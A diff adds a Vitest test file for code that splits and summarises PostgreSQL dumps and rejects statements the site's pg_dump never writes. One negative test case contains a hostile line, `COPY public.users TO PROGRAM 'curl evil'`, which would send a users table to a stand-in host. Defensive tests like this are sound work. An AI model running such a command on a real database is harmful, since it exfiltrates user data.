@@ -1,0 +1,43 @@
+import { describe, expect, it } from 'vitest'
+import { DumpError, portable, statements, summarise } from './sql'
+
+const dump = `--
+-- PostgreSQL database dump
+--
+\\restrict abc123
+
+SET statement_timeout = 0;
+SELECT pg_catalog.set_config('search_path', '', false);
+CREATE TABLE public.comments (
+    id integer NOT NULL,
+    content character varying
+);
+INSERT INTO public.comments VALUES (1, 'a; b -- not a comment');
+INSERT INTO public.comments VALUES (2, 'it''s
+two lines;');
+INSERT INTO public.payload_migrations VALUES (1, '20261121_070618_initial', 1, '2026-11-21 07:06:18+00', '2026-11-21 07:06:18+00');
+SELECT pg_catalog.setval('public.comments_id_seq', 2, true);
+
+\\unrestrict abc123
+`
+
+describe('the database part of an archive', () => {
+  it('splits statements where they end, not at a ; inside a value, and drops psql lines', () => {
+    const sql = portable(dump)
+    expect(sql).not.toContain('restrict')
+    const all = [...statements(sql)]
+    expect(all).toHaveLength(7)
+    expect(all[3]).toBe("INSERT INTO public.comments VALUES (1, 'a; b -- not a comment');")
+    expect(all[4]).toBe("INSERT INTO public.comments VALUES (2, 'it''s\ntwo lines;');")
+  })
+
+  it('counts the rows of each table and lists the migrations', () => {
+    expect(summarise(portable(dump))).toEqual({ tables: { comments: 2, payload_migrations: 1 }, migrations: ['20261121_070618_initial'], statements: 7 })
+  })
+
+  it('refuses what pg_dump never writes for this site, and a dump cut in a statement', () => {
+    expect(() => summarise(`COPY public.users TO PROGRAM 'curl evil';`)).toThrow(DumpError)
+    expect(() => summarise(`CREATE FUNCTION public.f() RETURNS int AS $$ SELECT 1; $$ LANGUAGE sql;`)).toThrow(/does not write for this site/)
+    expect(() => summarise(`INSERT INTO public.users VALUES (1, 'half`)).toThrow(/ends in the middle of a statement/)
+  })
+})
